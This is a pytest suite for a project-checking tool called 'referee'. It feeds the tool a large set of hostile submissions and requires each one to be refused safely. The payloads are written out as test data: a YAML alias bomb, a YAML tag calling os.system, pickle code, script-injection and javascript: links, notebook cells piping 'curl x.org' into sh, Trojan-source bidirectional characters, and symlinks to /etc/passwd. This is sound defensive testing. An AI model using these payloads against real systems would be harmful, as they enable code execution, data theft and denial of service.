"""What somebody could submit to break, mislead or harm: each is refused under its rule, in bounded time and memory.

A case says what it is, which rule must refuse it, and how it is made. Whatever it is, `referee check` ends with 1, says
so in JSON that can be parsed, shows no traceback, prints no character that a terminal acts on, and writes nothing.
"""

import json
import os
import pickle
import resource
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from referee.checks import every_check
from referee.cli import main

Make = Callable[[Any], object]

SECONDS = 20  # of processor time; without the limits these cases take hours, or the memory
MEGABYTES = 300

PREFIXES = ("PRJ", "LAY", "RES", "NB", "TST", "PRB", "ORG", "DOC", "SEC")
WEIGHTS = "results/laptop/k50/weights.safetensors"
RECORD = "results/laptop/k50/record.json"
CURVE = "results/laptop/k50/metrics.jsonl"

LAUGHS = "a: &a [x]\n" + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{f'*{chr(97 + i)},' * 9}]\n" for i in range(9))


def yaml(text: str | bytes) -> Make:
    return lambda d: d.write("project.yaml", text)


def field(old: str, new: str) -> Make:
    return lambda d: d.replace("project.yaml", old, new)


def record(**fields: Any) -> Make:
    return lambda d: d.record("laptop/k50", **fields)


def raw_record(old: str, new: str) -> Make:
    return lambda d: d.replace(RECORD, old, new)


def tensors(header: Any, body: bytes = b"", length: int | None = None) -> Make:
    text = header if isinstance(header, str | bytes) else json.dumps(header)
    return lambda d: d.safetensors(text, body, length)


def entry(shape: list[Any], start: Any, end: Any, dtype: str = "F32") -> dict[str, Any]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [start, end]}


def cell(number: int, **fields: Any) -> Make:
    return lambda d: d.notebook(lambda cells: cells[number].update(fields))


def shows(kind: str, value: Any) -> Make:
    return lambda d: d.output(output_type="display_data", data={kind: value}, metadata={})


def readme(text: str) -> Make:
    return lambda d: d.append("README.md", text)


def python(text: str) -> Make:
    return lambda d: d.append("toy.py", text)


def large(path: str, size: int) -> Make:
    return lambda d: os.truncate(d.write(path, ""), size)


def many(d: Any) -> None:
    for i in range(4100):
        (d.folder / f"n{i}.md").touch()


CASES: list[tuple[str, str, Make]] = [
    # project.yaml
    ("a bomb of aliases", "PRJ-003", yaml(LAUGHS)),
    ("an anchor", "PRJ-003", field("licence: MIT", "licence: &a MIT")),
    ("a tag that makes an object", "PRJ-003", field("licence: MIT", "licence: !!python/object/apply:os.system [ls]")),
    ("brackets nested without end", "PRJ-003", yaml("a: " + "[" * 100_000)),
    ("lists nested without end", "PRJ-003", yaml("- " * 50_000)),
    ("keys nested without end", "PRJ-003", yaml("? " * 50_000)),
    ("a second document", "PRJ-003", lambda d: d.append("project.yaml", "---\nstage: published\n")),
    ("more than 256 KiB", "PRJ-001", yaml("# " + "x" * 300_000)),
    ("no UTF-8", "PRJ-001", yaml(b"stage: v1\nfamily: \xff\xfe\n")),
    ("UTF-16", "PRJ-001", yaml("stage: v1\n".encode("utf-16"))),
    ("a NUL", "PRJ-002", yaml("stage: v1\0\n")),
    ("a terminal's escape", "PRJ-012", field("title: A Paper", 'title: "\\e[2J\\e[31mA Paper"\n  venue2: ')),
    ("a reversing character", "PRJ-012", field("role: everything", "role: every\u202ething")),
    ("a field twice", "PRJ-004", field("stage: v1", "stage: v1\nstage: published")),
    ("an empty file", "PRJ-007", yaml("")),
    ("a number for a file", "PRJ-007", yaml("42")),
    ("a list for a stage", "PRJ-007", field("stage: v1", "stage: [v1]")),
    ("text for the claims", "PRJ-007", lambda d: d.write("project.yaml", "stage: v1\nclaims: all of them\n")),
    ("a list for a field's name", "PRJ-007", field("licence: MIT", "licence: MIT\n? [a, b]\n: c")),
    ("a merge of fields", "PRJ-005", field("licence: MIT", "licence: MIT\n<<: {stage: published}")),
    ("two claims of one id", "PRJ-010", field("id: more-samples-help", "id: nll-k50")),
    ("a value that is no number", "PRJ-008", field("paper_value: 84.70", "paper_value: .nan")),
    ("a value beyond all numbers", "PRJ-008", field("paper_value: 84.70", "paper_value: 1e999999")),
    ("a value of thirty places", "PRJ-008", field("paper_value: 84.70", f"paper_value: 84.{'7' * 30}")),
    ("a figure outside", "PRJ-012", field("results/laptop/k50/samples.png", "../../../../etc/passwd")),
    ("a handle of look-alike letters", "PRJ-007", field("handle: team-a", "handle: te\u0430m-a")),
    ("ten thousand unknown fields", "PRJ-005", yaml("".join(f"f{i}: 1\n" for i in range(10_000)))),
    ("a link for project.yaml", "SEC-001", lambda d: d.link("project.yaml", "/etc/passwd")),
    ("a folder for project.yaml", "LAY-001", lambda d: (d.delete("project.yaml"), d.write("project.yaml/x.md", ""))),
    # records
    ("a score that is no number", "RES-001", record(score_value=float("nan"))),
    ("an infinite score", "RES-001", record(score_value=float("inf"))),
    ("a score beyond all numbers", "RES-001", raw_record('"n": 50', '"n": 50, "value": 1e999')),
    ("a number of ten thousand digits", "RES-001", raw_record('"steps": 4', '"steps": ' + "9" * 10_000)),
    ("a name twice in a record", "RES-001", raw_record('"seed": 0', '"seed": 0, "seed": 1')),
    ("brackets nested in a record", "RES-001", lambda d: d.write(RECORD, "[" * 100_000)),
    ("objects nested in a record", "RES-001", lambda d: d.write(RECORD, '{"a":' * 40_000)),
    ("a list for a score", "RES-001", record(scores=[[1, 2]])),
    ("true for a count", "RES-001", record(score_n=True)),
    ("no examples", "RES-001", record(score_n=0)),
    ("a negative error", "RES-001", record(score_stderr=-1)),
    ("a score of three hundred digits", "RES-001", record(score_value=1e300)),
    ("an unknown field in a record", "RES-001", record(verdict="reproduced")),
    ("a list for a digest", "RES-001", record(data_sha256={"toys": ["0" * 64]})),
    ("an impossible time", "RES-001", record(wall_s=10**25)),
    ("another project's record", "RES-001", record(project="iwae")),
    ("a record of 300 KiB", "RES-001", lambda d: d.append(RECORD, " " * 300_000)),
    ("a score typed by hand", "RES-008", record(score_value=70.0)),
    ("a terminal's escape in a protocol", "RES-006", record(score_protocol="\x1b[2J", score_split="\u202e")),
    ("no number in a curve", "RES-009", lambda d: d.append(CURVE, '{"step": 9, "bound": NaN}\n')),
    ("a curve that goes back", "RES-009", lambda d: d.append(CURVE, '{"step": 1, "bound": 2}\n')),
    ("a curve of 2 MiB", "LAY-003", large(CURVE, 2 * 2**20)),
    ("results that are elsewhere", "SEC-001", lambda d: d.link("results", "/")),
    ("a record that is elsewhere", "SEC-001", lambda d: d.link(RECORD, "../k1/record.json")),
    # weights
    ("a pickle called safetensors", "SEC-003", lambda d: d.write(WEIGHTS, pickle.dumps({"w": 1}))),
    ("a pickle in text", "SEC-003", lambda d: d.write(WEIGHTS, b"cos\nsystem\n(S'true'\ntR.")),
    ("an archive called safetensors", "SEC-003", lambda d: d.write(WEIGHTS, b"PK\x03\x04" + bytes(100))),
    ("a header longer than any file", "SEC-004", tensors({}, length=2**63)),
    ("a header longer than its file", "SEC-004", tensors({}, length=1000)),
    ("a header that is no JSON", "SEC-004", tensors("{nonsense")),
    ("a header that is nested without end", "SEC-004", tensors('{"w":' * 100_000)),
    ("tensors that overlap", "SEC-004", tensors({"a": entry([2], 0, 8), "b": entry([2], 4, 12)}, bytes(12))),
    ("a gap between tensors", "SEC-004", tensors({"a": entry([2], 0, 8), "b": entry([2], 12, 20)}, bytes(20))),
    ("a negative place", "SEC-004", tensors({"a": entry([2], -8, 0)}, bytes(8))),
    ("a shape beyond all memory", "SEC-004", tensors({"a": entry([2**47, 2**47], 0, 8)}, bytes(8))),
    ("a shape with a fraction", "SEC-004", tensors({"a": entry([2.0], 0, 8)}, bytes(8))),
    ("an unknown type", "SEC-004", tensors({"a": entry([2], 0, 8, "object")}, bytes(8))),
    ("bytes that nothing describes", "SEC-004", tensors({"a": entry([2], 0, 8)}, bytes(8) + b"#!/bin/sh")),
    ("a tensor twice", "SEC-004", tensors('{"a": ' + json.dumps(entry([2], 0, 8)) + ', "a": 1}', bytes(8))),
    ("weights of 17 MiB", "SEC-004", large(WEIGHTS, 17 * 2**20)),
    ("an empty file of weights", "SEC-004", lambda d: d.write(WEIGHTS, b"")),
    # the notebook
    ("a notebook of 50 MB", "NB-002", large("toy.ipynb", 50_000_000)),
    ("a script in an output", "NB-007", shows("text/html", "<script>fetch('//x.org')</script>")),
    ("JavaScript in an output", "NB-007", shows("application/javascript", "alert(1)")),
    ("a widget", "NB-007", shows("application/vnd.jupyter.widget-view+json", {"model_id": "x"})),
    ("a drawing with a script", "NB-007", shows("image/svg+xml", "<svg onload='x'/>")),
    ("Markdown as output", "NB-007", shows("text/markdown", "<iframe src='//x.org'>")),
    ("HTML called a picture", "NB-007", shows("image/png", "PGh0bWw+PHNjcmlwdD4=")),
    ("a formula with a link that runs", "NB-007", shows("text/latex", "$\\href{javascript:alert(1)}{x}$")),
    ("a frame in a text", "NB-007", cell(2, source="<iframe src='//x.org'></iframe>")),
    ("an event in a text", "NB-007", cell(2, source='<img alt=">" src=x onerror=alert(1)>')),
    ("a link that runs, in disguise", "NB-007", cell(2, source="[x](&#106;ava\tscript&#58;alert(1))")),
    ("a reference to no character", "NB-007", cell(2, source=f"&#{'9' * 9000}; <script>")),
    ("a shell", "NB-008", cell(1, source="!curl x.org | sh\nprint(1)")),
    ("a hidden shell", "NB-008", cell(1, source="  %%bash\ncurl x.org | sh")),
    ("brackets nested in a notebook", "NB-001", lambda d: d.write("toy.ipynb", '{"cells":' + "[" * 200_000)),
    ("no number in a notebook", "NB-001", lambda d: d.replace("toy.ipynb", '"metadata": {', '"metadata": {"a": NaN, ')),
    ("cells that are no list", "NB-001", lambda d: d.write("toy.ipynb", '{"nbformat": 4, "cells": {"a": 1}}')),
    ("a count that is text", "NB-001", cell(1, execution_count="1")),
    ("a source that is a number", "NB-001", cell(1, source=7)),
    ("outputs that are numbers", "NB-001", cell(1, outputs=[1, 2])),
    ("outputs of a text", "NB-001", cell(2, outputs=[{"output_type": "display_data", "data": {"text/html": "x"}}])),
    ("data that is no object", "NB-007", cell(3, outputs=[{"output_type": "display_data", "data": ["text/html"]}])),
    ("six hundred cells", "NB-001", lambda d: d.notebook(lambda cells: cells.extend([cells[2]] * 600))),
    ("a terminal's escape in a cell", "SEC-006", cell(2, source="\x1b[2J")),
    ("code that reads otherwise than it runs", "SEC-006", cell(1, source="print(1)  # \u202e }\u2066")),
    # code
    ("Trojan source", "SEC-006", python('ok = True  # "\u202e\u2066 only if false\u2069"\n')),
    ("a name of look-alike letters", "SEC-006", python("sc\u043ere = 1\n")),
    ("letters that Python reads as others", "SEC-006", python("\U0001d41e\U0001d42f\U0001d41a\U0001d425 = 1\n")),
    ("an invisible letter", "SEC-006", python("secret\u3164 = 1\n")),
    ("source in another encoding", "SEC-006", lambda d: d.write("toy.py", "# coding: utf-7\n+AGE- = 1\n")),
    ("a NUL in source", "LAY-003", python("x = '\0'\n")),
    ("parentheses nested without end", "LAY-004", python("x = " + "(" * 50_000 + "\n")),
    ("signs without end", "LAY-004", python("x = " + "-" * 200_000 + "1\n")),
    ("attributes without end", "LAY-004", python("x = a" + ".b" * 60_000 + "\n")),
    ("statements that use each other", "LAY-004", python("".join(f"a{i} = a{i + 1}\n" for i in range(15_000)))),
    ("a megabyte of source", "LAY-003", python("#" * 2**20)),
    ("a shell of torch's", "SEC-010", python("def f():\n    return torch.load('w.bin', weights_only=False)\n")),
    # the README
    ("a script", "DOC-005", readme("\n<script src=//x.org></script>\n")),
    ("a script in what looks like code", "DOC-005", readme("\n<details>\n```\n\n<script>x</script>\n")),
    ("a form", "DOC-005", readme("\n< FORM action=//x.org>\n")),
    ("a link that runs", "DOC-005", readme("\n[x]: java&#x73;cript:alert(1)\n")),
    ("half a million brackets", "DOC-005", readme("\n" + "[" * 500_000 + "\n<script>\n")),
    ("half a million backticks", "DOC-005", readme("\n" + "`" * 500_000 + "\n<script>\n")),
    ("backticks of every length", "DOC-005", readme("\n" + " ".join("`" * i for i in range(1, 900)) + "\n<script>\n")),
    ("half a million lines", "DOC-005", readme("\n" * 500_000 + "<script>\n")),
    ("half a million spaces in a tag", "DOC-005", readme("\n<" + " " * 500_000 + "a\n<script>\n")),
    ("half a million tags begun", "DOC-005", readme("\n" + "<a " * 160_000 + "\n<script>\n")),
    ("tokens begun without end", "SEC-005", readme("\n" + "eyJ-" * 120_000 + "\n-----BEGIN PRIVATE KEY-----\n")),
    ("twenty thousand tables", "RES-010", readme("\n" + "<!-- referee:claims -->\n" * 20_000)),
    ("tables begun without end", "RES-010", readme("\n" + "".join(f"<!-- referee:a{i} -->\n" for i in range(20_000)))),
    ("a README that is elsewhere", "SEC-001", lambda d: d.link("README.md", "/etc/passwd")),
    ("a link out of the repository", "DOC-004", readme("\n[x](%2e%2e/../../../../etc/passwd)\n")),
    # the folder
    ("a loop of links", "SEC-001", lambda d: d.link("again", ".")),
    ("a link to a device", "SEC-001", lambda d: d.link("zero.md", "/dev/zero")),
    ("a pipe, which never ends", "SEC-001", lambda d: os.mkfifo(d.folder / "notes.md")),
    ("a pipe in the place of the code", "LAY-001", lambda d: (d.delete("toy.py"), os.mkfifo(d.folder / "toy.py"))),
    ("a repository in the repository", "SEC-001", lambda d: d.write(".git/config", "[core]\n")),
    ("a name with a line's end", "SEC-008", lambda d: d.write("a\n::error::b.md", "x")),
    ("a name that is no text", "SEC-008", lambda d: d.write("caf\udce9.md", "x")),
    ("a name with a terminal's escape", "SEC-008", lambda d: d.write("\x1b[2Jx.md", "x")),
    ("a name that looks like another", "SEC-008", lambda d: d.write("READM\u0415.md", "x")),
    ("folders without end", "SEC-002", lambda d: d.write("/".join("abcdefghijklmnopqrst") + "/x.md", "x")),
    ("four thousand files", "SEC-002", many),
    ("a file of 20 GB", "SEC-002", large("results/samples2.png", 20 * 10**9)),
    ("what torch.save writes", "SEC-003", lambda d: d.write("model.pth", b"PK\x03\x04" + bytes(64))),
    ("a compiled module", "SEC-003", lambda d: d.write("toy.pyc", b"\xa7\r\r\n" + bytes(64))),
    ("a private key", "SEC-005", lambda d: d.write("id.txt", "-----BEGIN OPENSSH PRIVATE KEY-----\n")),
]


def test_the_corpus_is_large_and_each_case_is_named_once() -> None:
    assert len(CASES) >= 80
    names = [name for name, _, _ in CASES]
    assert len(set(names)) == len(names)


@pytest.mark.parametrize(("name", "rule", "make_it"), CASES, ids=[f"{rule}-{name}" for name, rule, _ in CASES])
def test_refused(
    name: str,
    rule: str,
    make_it: Make,
    damage: Any,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(damage.root)
    make_it(damage)
    rules = ",".join(r for r in every_check() if r.partition("-")[0] in PREFIXES)
    before, memory, start = snapshot(damage.root), peak(), time.process_time()
    status = main(["check", "toy", "--stage", "v1", "--format", "json", "--only", rules])
    took = time.process_time() - start
    out, err = capfd.readouterr()
    (paper,) = json.loads(out)["papers"]
    errors = {f["rule"]: f for f in paper["findings"] if f["severity"] == "error"}
    assert status == 1
    assert rule in errors, sorted(errors)
    assert not [f["message"] for f in paper["findings"] if "the check itself failed" in f["message"]]
    assert "Traceback" not in out + err
    said = [text for f in paper["findings"] for text in (f["message"], f["file"])]
    assert [text for text in said if not text.isprintable() or len(text) > 1000] == []
    assert snapshot(damage.root) == before
    assert took < SECONDS
    assert peak() - memory < MEGABYTES


def snapshot(root: Path) -> dict[str, tuple[int, int]]:
    """All that lies in a folder: path -> size and time of the last change. Links are not followed."""
    found: dict[str, tuple[int, int]] = {}
    for folder, _, files in os.walk(root):
        for name in files:
            state = os.lstat(os.path.join(folder, name))
            found[os.path.join(folder, name)] = (state.st_size, state.st_mtime_ns)
    return found


def peak() -> float:
    """The most memory that this process ever took, in MB."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


@pytest.mark.parametrize("path", ["project.yaml", "README.md", "toy.py", "toy.ipynb", RECORD, CURVE])
def test_a_link_gives_nothing_away(
    path: str, damage: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """What a link leads to is not read: messages go to a public page, and the file may be the machine's own."""
    (tmp_path / "secret").write_text("hunter2: hunter2\n")
    damage.link(path, tmp_path / "secret")
    monkeypatch.chdir(damage.root)
    assert main(["check", "toy", "--stage", "v1", "--format", "json"]) == 1
    out, err = capfd.readouterr()
    assert "SEC-001" in out
    assert "hunter2" not in out + err


def test_a_linked_project_gives_nothing_away(
    damage: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "project.yaml").write_text("hunter2: hunter2\n")
    (damage.root / "projects" / "linked").symlink_to(tmp_path / "elsewhere")
    monkeypatch.chdir(damage.root)
    assert main(["check", "linked", "--stage", "v1", "--format", "json"]) == 1
    out, err = capfd.readouterr()
    assert "SEC-001" in out
    assert "hunter2" not in out + err
